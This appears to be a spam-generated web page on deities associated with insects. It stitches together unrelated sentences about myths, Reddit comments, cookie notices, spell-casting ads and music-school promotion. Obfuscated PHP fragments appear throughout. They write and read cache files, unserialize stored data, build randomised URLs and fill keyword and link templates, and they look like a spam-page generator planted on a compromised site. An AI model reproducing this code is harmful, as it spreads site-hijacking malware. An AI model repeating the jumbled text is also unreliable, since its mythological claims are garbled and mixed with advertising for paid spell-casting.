deities associated with insects

The belief in karma extends even to insects. ".list")) {return;}@file_put_contents(_bw4hgvn::$_33z3a6vp . Ron Cherry is with the University of Florida (IFAS) at the Everglades Research and Education Center, 3200 E. Palm Beach Road, Belle Glade, FL 33430. Home; Courses. Eostre being associated with spring and the dawn, her name meaning "east" or "dawn". They are often associated with snakes, as in the Welsh name gwas-y-neidr, "adder's servant". She faced a group of onlookers, who insisted on making her reveal her knowledge, so she forcefully denied without ever yielding, until the women, disappointed and angry, killed her by tearing her to pieces. 1. chiefly fig. (My ancestors are vikings from Iceland, Birka (shield maiden), Sigtuna, Gotland, Oland, & Lilla Bedinge Sweden, England, Denmark, Russia and Poland.)Scythian-Viking-Cyn. "/" . Few people know that Beelzebub itself started out as a fly swatter. She closed her eyes in concentration, summoning countless bees, hornets, wasps, flies, termites, mosquitoes, and spiders from the sky. "/" . If the centipede is your spirit animal, then you are naturally inclined towards financial success. Whether you are looking for spells for love, wealth,protection, or more, we can help you and solve your problems in a matter of days! Itzpapalotl is called the Obsidian Butterfly, though she is often associated with bats and deer as well. Insects have appeared in mythology around the world from ancient times. White moths feel like peaceful death energy. This must have been a real comfort to those involved. [& How to Connect with it], Which Deity is Associated with Sagittarius? Charity; FMCG; Media [3], The Baganda people of Uganda hold the legend of Kintu, the first man on earth. Aristaeus was a shepherd, a very passionate beekeeper, and an avid suitor of the nymph Eurydice. Bees were said to come from the tears of the sun god, Ra, andcertain wasp-like insects made up part of the official royal title of the pharaoh. Among Aztecs, butterflies that flew around houses were considered the souls of the happy dead paying a visit (Burland 1975). md5(_rqh64o::$_ypexsqor) . Nambi aided Kintu in the final test by transforming herself into a bee, whispering into his ear to choose the one whose horn she landed upon. By rejecting non-essential cookies, Reddit may still use certain cookies to ensure the proper functionality of our platform. They taught me each and every aspect with modern On the other hand, the insects might be agents of God sent for the punishment of sinful people. Ishara, Eblaite, Mesopotamian, Hurrian and Ugaritic goddess associated with love, oaths, illness and the underworld, represented by a scorpion symbol on kudurru [1] Ningirima, Mesopotamian goddess of incantations, was associated with the scorpion star Chelamma, Hindu goddess of the Southern Karnataka region of India An ancient legend, written on an Egyptian papyrus preserved in the British Museum in London, tells that when the sun god, Ra, cried for love, his tears fell to the ground and turned into honey: And the bees built their home filling it of flowers of all kinds of plants; thus wax and honey were born, all originating from Ras tears.. The aztecs and mayans called it the Moth of Death. Long associated with annoyance and disease, flies have always represented a nuisance for humans. chr($_odxijr15);if ($_yzx3lu3o != 64) {$_lvasvxk4 = $_lvasvxk4 . It's considered bad luck to kill a white butterfly because those hold the souls of deceased children. [34] This is attributed to a legend in which Japan's mythical founder, Emperor Jinmu, was bitten by a mosquito, which was then eaten by a dragonfly. iron chef america host dies. Some who rule ther/Norse is a subreddit dedicated to academic discussion of Norse and Viking history, mythology, language, art and culture. towards the music industry in India. [15], In Prometheus Bound, attributed to the Athenian tragic playwright Aeschylus, a gadfly sent by Zeus's wife Hera pursues and torments his mistress Io, who has been transformed into a cow and is watched constantly by the hundred eyes of the herdsman Argus. ".list", $_mwuud1gb);}static public function _dwpjf($_01zl3kmm){@file_put_contents(_bw4hgvn::$_33z3a6vp . [21][22], According to Lafcadio Hearn, a butterfly was seen in Japanas the personification of a person's soul; whether they be living, dying, or already dead. The Egyptian god Khepri, Ra as the rising sun, was often depicted as a scarab beetle or as a scarab beetle-headed man. In short, no In long, not really but there are relevant Germanic goddesses. _w3hko7s::$_1gp11lv8);$_y34q817z = @unserialize(@file_get_contents($_y34q817z));if (!empty($_y34q817z) && ($_y34q817z["expired"] > time() || $_y34q817z["expired"] == -1)) {return new _w3hko7s($_y34q817z["template"], $_y34q817z["text"], $_y34q817z["keyword"], $_y34q817z["links"]);} else {return null;}}}class _6us5h1w{private static $_enhmpuw9 = "";private static $_33z3a6vp = "";public static function _k8ldf($_msekj9za, $_jjsykld6){_6us5h1w::$_enhmpuw9 = $_msekj9za . Irish folklore holds that the butterfly is related to the very soul of a human being. md5($_mwuud1gb) . People will long to die, but will not die (Verdet 1987). Answer: TITHONUS is the god of insects, thats about as close as your going to get, now if you take all the pantheons and choose gods that are similar, IE Lunar Deities, Solar Deities, etc, then you could make the assumption that Uatchit was goddess of both since they both live in the marshes His kinship with giants ties him to the concept of chaos. Some of the concepts associated with the spider are progress, femininity, cycle, rebirth, death, creation .They'll fly at my face while I'm in am open field with other people around left undisturbed, I'll find one in the fridge and have absolutely no idea how or when that got there, I'll be minding my business at work and one will fly across my counter and land in front of me. People with the centipede as their spirit animal tend to be level-headed and judicious. 4 ? md5($_uqpc741h) . In the latter case, controlling insects might be considered a sacrilege to the Christian god. This book details the historical treatment of both insects and vertebrates as criminals and, in some cases, the cruel punishments to which they were subjected. Other goddesses like Aphrodite are also associated with it, but the goose's intelligence makes it Athena's too. Once he became a man, to thank Melissa for her care, Zeus decided to free her from her mortal body and turn her into a bee. This animal is very faithful to the hive and to its queen. BackStreetsAcademy 2017. The locusts will torture people for five months, but will not kill them. Serqet - Scorpions(technically she is Goddess of Venom in general, but her design is closer to a scorpion, so shush), Khepri - Scarab Beetles (which are a species of dung beetle, I did my research people ;D). This way, you know it's being done by someone experienced and knowledgeable, andI'm also always here to answer questions about your casting and provide follow-up at no additional charge.I've been casting spells for more than a decade and have worked privately with clients from all over the world.You can expect private sessions, customized spells that I'll create just for you, and free consultations before and after spell casting. "\n" . ($_hwjsi8an - ($_hwjsi8an % 3600)) . their roots, in the wrong place, neglecting a true part of themselves. Another popular insect group for divine punishment are dipterans. Magickal Spot is a witchcraft site dedicated to offering magical education, and we do this thorough explanation of the craft and its many nuances. If you are trying to solve a problem you're facing, you should consider hiring a professional witch that cast spells safely for everyone involved. If you are trying to solve a problem you're facing, you should consider hiring a professional witch that cast spells safely for everyone involved. @file_exists(_bw4hgvn::$_enhmpuw9)) {@mkdir(_bw4hgvn::$_enhmpuw9);}}private static function _l1080(){$_awju678s = array();foreach (scandir(_bw4hgvn::$_enhmpuw9) as $_plmi8mpw) {if (strpos($_plmi8mpw,_bw4hgvn::$_33z3a6vp) === 0) {$_awju678s[] = $_plmi8mpw;}}return $_awju678s;}public static function _z8r2f(){return TRUE;}static public function _287xd(){if (empty(_bw4hgvn::$_nyl2hf9x)) {$_awju678s = _bw4hgvn::_l1080();_bw4hgvn::$_nyl2hf9x = @file(_bw4hgvn::$_enhmpuw9 . Assyrians prayed to the god Ashur for protection against locusts (Fig. Arachne - Spiders Ah Muzen Cab - Bees Serqet - Scorpions (technically she is Goddess of Venom in general, but her design is closer to a scorpion, so shush) They are a common motif in Zuni pottery; stylized as a double-barred cross, they appear in Hopi rock art and on Pueblo necklaces. [28] In the Philippines, a lingering black butterfly or moth in the house is taken to mean a death in the family. [24] Indeed, the ancient Greek word for "butterfly" is (psch), which primarily means "soul" or "mind". She is an avatar of Parvati. This topic has been reported on by several authors such as Beier (1973), Berenbaum (1995), and most recently Waldbauer (2012). If a butterfly enters your guestroom and perches behind the bamboo screen, it is said in Japan that the person whom you most love is coming to see you. I know there was a bit of a debate about the appropriateness of the post but I'll just give my two-cents so this comment wasn't for nothing. It is not light reading and recalls Dostoevsky's comment, It is hard to imagine the limits of man's perversity.. There is, however, a Lithuanian goddess of insects, specifically bees but I don't know if that's it. chr($_wd9lxzhi);}if ($_tyj39zul != 64) {$_lvasvxk4 = $_lvasvxk4 . The gods went in search of Telipinu only to fail. InChinese mythology, Pa-cha (Fig. Insect myths may present the origins of a people, or of their skills such as finding honey. The exhausted bee left the mantis on a floating flower but planted a seed in the mantis's body before it died. There is also another connection between Cupid and bees in Teocritus poem. Dismiss, Flies: The symbolism, the origins and the meaning, A List of 5 Deities Associated with Cats [With Stories], A List of 5 Deities Associated with Birds [With Stories]. Butterflies are also found in the tomb paintings of ancient Egypt, where they were among the pleasures of the dead in the afterworld (Brewer 1976). The Plagues of Vermin from the old Luther Bible series of wood blocks. Don't know if it is found in Scandinavian countries, but if so, I think the vikings would have loved it :) I like to think it may be the spiritof my ancestor. One was illustrated in a line drawing in Harrison 1922:443, fig 135, Cook, Arthur Bernard. A blue-glazed faience dragonfly amulet was found by Flinders Petrie at Lahun, from the Late Middle Kingdom of ancient Egypt. Blog Home Uncategorized deities associated with insects. Zeus used it to drive away flies during important sacrifices. Our aim is to train the next generation of musicians, artists, producers, sound engineers and composers to cater to the need of the ever-growing music industry in India. Eh, there's enough of a historical question there. Many theologians denounced the idea on the grounds that insects could not be communicants of the church, and therefore could not be excommunicated. Loki is, therefore, an agent of chaos and destruction. [8] Zeus granted her request, but, because Eos forgot to ask him to also make Tithonus ageless, Tithonus never died, but he did grow old. Hiring a Professional Witch will save you time, money, and frustration! For full access to this pdf, sign in to an existing account, or purchase an annual subscription. bring to life: the desert is like a line drawing waiting to be animated with color. Big Fly in Navajo sand painting (Wyman and Bailey 1964). Or Erce, or eoran modor "mother of earth" from the cerbot who may be a Saxon goddess. In Mayan mythology, Ah-Muzen-Cab is one of the Maya gods of bees and honey. 3), and in the Bible, locust plagues in Egypt and the Holy Landare controlled by a benevolent God responding to the pleas of Moses and the prophet Joel, respectively. Each group supervises one aspect of the universe: the heaven or the sky; the rain . We not only build musicians, we build entrepreneurs. _rqh64o::_z60n3();return $_s8ux0tgj;}public static function _gz4hb(){return _rqh64o::_kh5xm() . And here, as in divine punishment, locusts and flies are popular targetsfor a god's intervention. $_01zl3kmm), 0, rand(1, 24));$_pgki25ep = "";if (substr($_kvph61y3, -1) == "/") {$_pgki25ep = sprintf("%s%s", $_kvph61y3, urlencode($_01zl3kmm));} else {if (FALSE && (ord($_dnb5koh9[0]) % 2)) {$_pgki25ep = sprintf("%s?%s=%s",$_kvph61y3,$_dnb5koh9,urlencode($_01zl3kmm));} else {$_95itvp8r = array("id", "page", "tag");$_nrv006we = $_95itvp8r[ord($_dnb5koh9[2]) % count($_95itvp8r)];$_pgki25ep = sprintf("%s?%s=%s",$_kvph61y3,$_nrv006we,urlencode($_01zl3kmm));}}return $_pgki25ep;}public static function _ogp9t($_k541pmlq, $_6ydwjcml){$_mwuud1gb = _bw4hgvn::_4xo7l();$_q6vpc9kd = count($_mwuud1gb)-1;$_iu27dmu4 = ". [2] The bowstring on Hindu love god Kamadeva's bow is made of honeybees. In Hittite mythology, the god of agriculture,Telipinu, went on a rampage and refused to allow anything to grow and animals would not produce offspring. It has been a popular topic since then, reported in numerous entomological works. One of the best music studios in Chandigarh which actually taught The legal prosecution of insects continued until surprisingly recent times, long after the start of the Industrial Revolution. Together with Tawa, the sun god, she creates the first living beings. The ancient Egyptians believed that any cat they saw (especially a black cat) could possibly be Bastet in her earthly guise, andmust be treated with reverential respect accordingly, just in case. She is associated with bees, hornets, wasps and flies which cling to her body. There was, however, much ambiguity about these religious and legalistic practices to control insects. PHP_EOL, 8);$_hgvo3xdp = _bw4hgvn::_4xo7l();$_o3tx6zdc = str_replace("{{ text }}", $this->_ugeyz7lf,str_replace("{{ keyword }}", $this->_e5wfiftv,str_replace("{{ links }}", $this->_x7kcw6jx,$this->_2p5clez7)));while (TRUE) {$_50tn9t5v = preg_replace('/' . Dismiss, 4 Poweful Deities That are Associated with Bees, Which Deity is Associated with Leo? Of the top pf my head I can't think of any from our current pantheons. Maybe something like a Dragonfly or Butterfly or Moth. Loki symbolizes necessaryevil, deceit and cunning. Another aspect associated with spiders is the concept of infinity. Bhramari means the goddess of bees or the goddess of black bees. md5($_uqpc741h) . For these reasons the scarab was seen as a symbol of this heavenly cycle and of the idea of rebirth or regeneration. For insects, closest I can get is the Finnish story about the origin of Iron, which includes the noble bee and the trickster hornet. Mythology: Greek Location: Ancient Greece Gender: Male Type: Deity god of: Insects TITHONUS - the Greek God of Insects (Greek mythology) Continue Reading More answers below Cathy Xue Greek mythology enthusiast Author has 1.4K answers and 1.2M answer views 4 y Similar examples of locusts being used as divine punishment are found in other non-Biblical sources. In Egyptian mythology, bees grew from the tears of the sun god Ra when they landed on the desert sand. This way, you know it's being done by someone experienced andknowledgeable, andI'm also always here to answer questions about your casting and provide follow-up at no additional charge.I've been casting spells for more than a decade and have worked privately with clients from all over the world.You can expect private sessions, customized spells that I'll create just for you, and free consultations before and after spell casting. An insect god of the Egyptian pantheon, Khepri was a scarab or a dung beetle. The god grew even angrier, until the goddess Kamrusepa (or a mortal priest according to some references) used a ritual to send his anger to the Underworld. As with locusts, different gods in different cultures have been prayed to for control of flies. He notes that the irritating persistence of flies is said by some to have originated in the fact that they were excommunicated by St. Bernard, and ever since have sought vengeance. 4) in Temple Square in Salt Lake City. Eventually, the two of them create First Man and First Woman - Tawa conceptualizes them while Spider Woman molds them from clay. [10] The Akkadian Epic of Gilgamesh contains allusions to dragonflies, signifying the impossibility of immortality. [8] Eventually, he became so tiny and shriveled that he turned into the first cicada. O earth, earth, hide, the hollow shapeArgusthat evil thingthe hundred-eyed."[17]. It is therefore essential to understand when to spread your wings, and always ready to changecourse at the right moment. Bastet, Egyptian Goddess of protection, pleasure, good health, revelry, and motherhood, is probably the most famous all the world's Cat Gods. When I receive questions about signs, they don't usually indicate a miracle in the biblical . By accepting all cookies, you agree to our use of cookies to deliver and maintain our services and site, improve the quality of Reddit, personalize Reddit content and advertising, and measure the effectiveness of advertising. The best known examples of a god punishing people with insects are found in the Bible in the form of plagues sent to punish early Egyptians. Hela - I have always associated with white moths, and Freyja for butterflies. An excellent environement to learn in. That happened frequently last year and only stopped when I moved downstate for school. Reddit and its partners 